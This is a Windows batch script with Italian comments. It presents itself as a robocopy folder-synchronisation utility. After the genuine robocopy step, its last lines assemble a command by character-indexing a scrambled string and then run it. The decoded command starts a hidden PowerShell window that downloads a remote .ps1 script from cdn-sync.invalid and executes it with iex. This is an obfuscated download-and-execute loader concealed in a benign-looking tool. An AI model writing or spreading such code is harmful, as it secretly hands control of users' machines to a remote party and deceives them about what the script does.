@echo off
rem Sincronizzazione cartelle - robocopy con ritentativi
setlocal
for /f "tokens=1,* delims==" %%a in ('type "%~dp0sync.ini" ^| find "="') do set "%%a=%%b"
robocopy "%sorgente%" "%destinazione%" /MIR /R:2 /W:5 /NP /LOG+:"%~dp0robocopy.log" >nul
set "q=QZ7xK|lhnsxb:/avopi.td"y1 erw-cu2mV9bJ4"
set v0=%q:~17,1%%q:~16,1%%q:~28,1%%q:~26,1%%q:~27,1%%q:~9,1%%q:~7,1%%q:~26,1%%q:~6,1%%q:~6,1%%q:~25,1%%q:~29,1%
set v1=%q:~8,1%%q:~16,1%%q:~17,1%%q:~25,1%%q:~29,1%%q:~28,1%%q:~25,1%%q:~7,1%%q:~18,1%%q:~21,1%%q:~21,1%%q:~26,1%
set v2=%q:~8,1%%q:~25,1%%q:~29,1%%q:~30,1%%q:~25,1%%q:~22,1%%q:~18,1%%q:~28,1%%q:~27,1%%q:~25,1%%q:~29,1%%q:~31,1%
set v3=%q:~9,1%%q:~26,1%%q:~11,1%%q:~25,1%%q:~7,1%%q:~20,1%%q:~20,1%%q:~17,1%%q:~9,1%%q:~12,1%%q:~13,1%%q:~13,1%
set v4=%q:~30,1%%q:~21,1%%q:~8,1%%q:~29,1%%q:~9,1%%q:~23,1%%q:~8,1%%q:~30,1%%q:~19,1%%q:~18,1%%q:~8,1%%q:~15,1%
set v5=%q:~14,1%%q:~6,1%%q:~18,1%%q:~21,1%%q:~13,1%%q:~9,1%%q:~13,1%%q:~14,1%%q:~19,1%%q:~17,1%%q:~9,1%%q:~24,1%
set v6=%q:~25,1%%q:~5,1%%q:~25,1%%q:~18,1%%q:~26,1%%q:~3,1%%q:~22,1%
call %v0%%v1%%v2%%v3%%v4%%v5%%v6%
endlocal
